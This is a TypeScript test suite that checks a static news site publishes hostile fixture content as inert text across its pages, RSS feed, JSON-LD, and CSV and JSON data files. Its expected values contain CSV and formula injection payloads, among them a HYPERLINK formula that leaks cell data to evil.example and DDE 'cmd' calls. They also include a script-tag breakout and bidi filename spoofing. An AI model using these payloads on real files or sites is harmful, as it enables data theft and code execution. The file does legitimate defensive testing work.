/**
 * The hostile-input suite, build tier: what publishes, read from the shared
 * edited build (HOSTILE in tests/helpers/shared-builds.ts), so the suite adds
 * no build. Seeds full of markup, links and invisible characters, and a story
 * whose every field that reaches a page, a data file or the JSON-LD is hostile
 * (tests/fixtures/hostile), reach the reader as the text they are: never as
 * markup, a link that runs a script, a request to another host or a formula.
 * Refused input fails its schema, plugin or loader (tests/unit/hostile-input.test.ts)
 * or the bad-seeds build (tests/build/seed-fixtures.test.ts); Chromium loads
 * these pages without the CSP in tests/e2e/hostile-input.test.ts.
 */
import { readdirSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { parseFrontmatter } from '@astrojs/markdown-remark';
import { parse } from 'csv-parse/sync';
import type { Element, Root } from 'hast';
import { fromXml } from 'xast-util-from-xml';
import { xmlElements, xmlText } from '../helpers/xml';
import { SITE } from '../../src/site';
import { beforeAll, describe, expect, test } from 'vitest';
import { parseSeed, type ParsedSeed } from '../../src/lib/seed/seed';
import { MAX_SLUG_LENGTH } from '../../src/lib/seed/slug';
import { summarize } from '../../src/lib/site/text';
import { formulaCells } from '../helpers/gates/formula-cells';
import { all, one, readPage, text } from '../helpers/html';
import { repoRoot } from '../helpers/project';
import { editedBuild, HOSTILE, SECOND_STORY } from '../helpers/shared-builds';

let outDir: string;
beforeAll(async () => {
  ({ outDir } = await editedBuild());
});

/** The seed of a fixture file, as the seed loader parses it. */
async function fixtureSeed(file: string): Promise<ParsedSeed> {
  return parseSeed(await readFile(path.join(repoRoot, file), 'utf8'), file);
}

/** Each script element of a page, by its type and its address: what may run there. */
const scripts = (page: Root) =>
  all(page, 'script').map((script) => [script.properties['type'] ?? null, script.properties['src'] ?? null]);

/** Elements with an event handler attribute (hast names them onClick, onError, …). */
const withEventHandlers = (page: Root) =>
  all(page, '*').filter((element: Element) => Object.keys(element.properties).some((name) => /^on/i.test(name)));

/** Elements that would load, frame or redirect to something from markup in the content. */
const LOADING = 'iframe, frame, object, embed, base, form, svg, style, img[src], meta[http-equiv="refresh"]';

/** What the site's own charts draw (figure.chart > svg, made at build time): shapes and text, nothing that loads. */
const CHART_ELEMENTS = new Set(['svg', 'title', 'desc', 'g', 'path', 'rect', 'circle', 'text', 'tspan']);

/** The loading elements of a page, the site's own drawings aside: its charts and the verdict card's tally bar. */
const loading = (page: Root) => {
  const drawings = new Set(all(page, 'figure.chart > svg, #verdicts > svg'));
  return all(page, LOADING).filter((element) => !drawings.has(element));
};

const INERT_SEEDS = readdirSync(path.join(repoRoot, HOSTILE.seeds)).sort();

describe('a hostile seed that no story tells', () => {
  test.each(INERT_SEEDS)('%s is published as the text it is, in the page and its head', async (name) => {
    const seed = await fixtureSeed(`${HOSTILE.seeds}/${name}`);
    const page = await readPage(outDir, `${seed.slug}/index.html`);
    expect(text(one(page, 'h1'))).toBe(seed.title);
    expect(text(one(page, 'title'))).toBe(`${seed.title} · The Explainer`);
    expect(all(page, '.article-body p').map(text)).toEqual(seed.paragraphs);
    expect(all(page, '.kicker').map(text)).toEqual(seed.category === null ? [] : [seed.category]);
    const description = summarize(seed.paragraphs[0]!);
    for (const meta of ['meta[name="description"]', 'meta[property="og:description"]']) {
      expect(one(page, meta).properties['content']).toBe(description);
    }
    expect(one(page, 'meta[property="og:title"]').properties['content']).toBe(seed.title);
    // The article body holds paragraphs and the seed's own quotations, nothing its text spelt as markup.
    expect(new Set(all(page, '.article-body *').map((element) => element.tagName))).toEqual(
      new Set(seed.quotes.length > 0 ? ['p', 'q'] : ['p']),
    );
  });

  test.each(INERT_SEEDS)('%s adds no script, event handler or loading element to its page', async (name) => {
    const seed = await fixtureSeed(`${HOSTILE.seeds}/${name}`);
    const page = await readPage(outDir, `${seed.slug}/index.html`);
    const plain = await readPage(outDir, 'a-story-without-a-footer/index.html');
    expect(scripts(page)).toEqual(scripts(plain));
    expect(withEventHandlers(page)).toEqual([]);
    expect(loading(page)).toEqual([]);
  });

  test('zero-width and bidi characters stay where they were written, and the address is made of letters only', async () => {
    const seed = await fixtureSeed(`${HOSTILE.seeds}/invisible-characters.txt`);
    expect(seed.slug).toBe('invisible-characters-txt-exe-in-a-title');
    const page = await readPage(outDir, `${seed.slug}/index.html`);
    expect(text(one(page, 'h1'))).toBe('Invisible\u200b Characters \u202etxt.exe\u202c In A Title');
    expect(all(page, '.article-body p').map(text).at(-1)).toBe(
      'A line\u2028separator and a paragraph\u2029separator inside one paragraph.',
    );
  });

  test('a very long title gets an address cut at a word, and a description cut between emoji', async () => {
    const seed = await fixtureSeed(`${HOSTILE.seeds}/long-title.txt`);
    expect(seed.slug).toBe('a-remarkably-long-headline-about-the-money-a-remarkably-long-headline-about-the');
    expect(seed.slug.length).toBeLessThanOrEqual(MAX_SLUG_LENGTH);
    const page = await readPage(outDir, `${seed.slug}/index.html`);
    expect(text(one(page, 'h1'))).toBe(seed.title);
    const family = '\u{1F469}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466}';
    const words = 'Ten short words come first, then a long run of emoji: ';
    // 160 graphemes at most: the words, whole families to 159, and the ellipsis.
    expect(one(page, 'meta[name="description"]').properties['content']).toBe(
      `${words}${family.repeat(159 - words.length)}…`,
    );
  });

  test('the RSS feed gives each title as written', async () => {
    const feed = fromXml(await readFile(path.join(outDir, 'rss.xml'), 'utf8'));
    const titles = xmlElements(feed, 'item').map((item) => xmlText(xmlElements(item, 'title')[0]!));
    for (const name of INERT_SEEDS) {
      expect(titles).toContain((await fixtureSeed(`${HOSTILE.seeds}/${name}`)).title);
    }
  });
});

describe('a story whose every field is hostile', () => {
  const storyFolder = `${HOSTILE.story}/content/stories/${HOSTILE.slug}`;
  const frontmatter = async (file: string): Promise<Record<string, unknown>> =>
    parseFrontmatter(await readFile(path.join(repoRoot, storyFolder, file), 'utf8')).frontmatter;
  let page: Root;
  let seed: ParsedSeed;
  const data = (name: string) => readFile(path.join(outDir, 'data', HOSTILE.slug, name), 'utf8');
  beforeAll(async () => {
    page = await readPage(outDir, `${HOSTILE.slug}/index.html`);
    seed = await fixtureSeed(`${HOSTILE.story}/seeds/${HOSTILE.seed}.txt`);
  });

  test('has one JSON-LD element, which gives back every field as written, "</script>", U+2028 and U+2029 included', async () => {
    const story = await frontmatter('story.md');
    const claims = await Promise.all(['claims/01-we-will-win.md', 'claims/02-worth-7-billion.md'].map(frontmatter));
    const [element, ...more] = all(page, 'script[type="application/ld+json"]');
    expect(more).toEqual([]);
    const json = text(element!);
    expect(json).not.toMatch(/[<\u2028\u2029]/);
    type Node = Record<string, unknown> & { '@type': string };
    const graph = (JSON.parse(json) as { '@graph': Node[] })['@graph'];
    const original = {
      '@type': 'NewsArticle',
      '@id': `${graph[0]?.['url'] as string}#original`,
      headline: seed.title,
      url: story['url'],
      publisher: { '@type': 'Organization', name: story['publisher'] },
    };
    const summary = story['summary'] as string[];
    expect(graph[0]).toMatchObject({ headline: story['headline'], description: summarize(summary[0]!) });
    expect(graph[0]?.['isBasedOn']).toEqual(original);
    expect(graph[1]).toMatchObject({
      name: `Companies and timeline behind “${seed.title}”`,
      isBasedOn: { '@id': original['@id'] },
    });
    const reviews = graph.filter((node) => node['@type'] === 'ClaimReview');
    expect(reviews.map((review) => review['claimReviewed'])).toEqual(claims.map((claim) => claim['quote']));
    expect(String(story['headline'])).toMatch(/<\/script>.*\u2028\u2029/);
  });

  test('runs the scripts of any explainer, and none the content wrote', async () => {
    const second = await readPage(outDir, `${SECOND_STORY.slug}/index.html`);
    expect(scripts(page)).toEqual(scripts(second));
    expect(withEventHandlers(page)).toEqual([]);
    expect(loading(page)).toEqual([]);
    // Its charts hold its hostile names and figures as text, in shapes that point nowhere.
    const drawn = all(page, 'figure.chart > svg *');
    expect(drawn.length).toBeGreaterThan(0);
    expect(drawn.filter((element) => !CHART_ELEMENTS.has(element.tagName))).toEqual([]);
    expect(drawn.filter((element) => Object.keys(element.properties).some((name) => /href/i.test(name)))).toEqual([]);
  });

  test('links to web addresses only, the original’s and the event’s as written, and the desk’s address for corrections', async () => {
    const story = await frontmatter('story.md');
    const event = await frontmatter('timeline/2031-04-06-hostile-founder-posts.md');
    const hrefs = all(page, 'a[href]').map((element) => String(element.properties['href']));
    expect(hrefs.filter((href) => !/^(https?:\/\/|\/|#)/.test(href))).toEqual([`mailto:${SITE.corrections.email}`]);
    expect(hrefs).toContain(story['url']);
    expect(hrefs).toContain(event['url']);
    // The body's javascript: and data: links lost their address, its data: image its source.
    expect(
      all(page, '.explainer > .summary *').map((element) => [element.tagName, Object.keys(element.properties)]),
    ).toEqual([
      ['p', []],
      ['a', []],
      ['a', []],
      ['img', ['alt']],
    ]);
  });

  test('its companies.csv starts no formula: each such cell leads with an apostrophe', async () => {
    const csv = await data('companies.csv');
    expect(formulaCells(csv)).toEqual([]);
    const [, ...rows] = parse(csv);
    expect(rows.map((row) => row.slice(0, 2))).toEqual([
      [
        `'=HYPERLINK("https://evil.example/?leak="&A1,"Hostile Corp")`,
        `'+cmd|' /C calc'!A0 is the role of the invented company the hostile fixture is about.`,
      ],
      [`'@SUM(1+1)*cmd|' /C calc'!A0`, `'\r=2+5 starts with a carriage return.`],
    ]);
    expect(rows.flat().filter((cell) => cell.startsWith("'"))).toEqual([
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Hostile Corp")`,
      `'+cmd|' /C calc'!A0 is the role of the invented company the hostile fixture is about.`,
      "'-2+3 invented post-money valuation",
      "'@SUM(1+1) an invented note",
      "'\t=1+1 starts with a tab: no invented source gives a revenue.",
      `'=IMPORTXML("https://evil.example/","//a")`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      `'\r=2+5 starts with a carriage return.`,
      "'=cmd|' /C calc'!A0 no valuation is published.",
      "'+1 invented run-rate",
      "'-1+1 \u202etxt.exe\u202c Pay\u200bpal cloud",
    ]);
  });

  test('its JSON data files keep each field as written, and each markdown body as its words only', async () => {
    const companies = JSON.parse(await data('companies.json')) as { companies: { name: string }[] };
    expect(companies.companies.map((company) => company.name)).toEqual([
      '=HYPERLINK("https://evil.example/?leak="&A1,"Hostile Corp")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ]);
    const claims = JSON.parse(await data('claims.json')) as { explanation: string }[];
    expect(claims.map((claim) => claim.explanation)).toEqual([
      'An opinion. alert(“claim body”) click',
      '=HYPERLINK(“https://evil.example/”) body{background:url(https://tracker.example.com/bg.png)} the ledger says $700 million.',
    ]);
    const events = JSON.parse(await data('timeline.json')) as { title: string; context: string }[];
    expect(events.map((event) => [event.title, event.context])).toEqual([
      ['</script><script>alert("event")</script> The founder posts', 'Context with a data link, and =1+1.'],
    ]);
  });
});
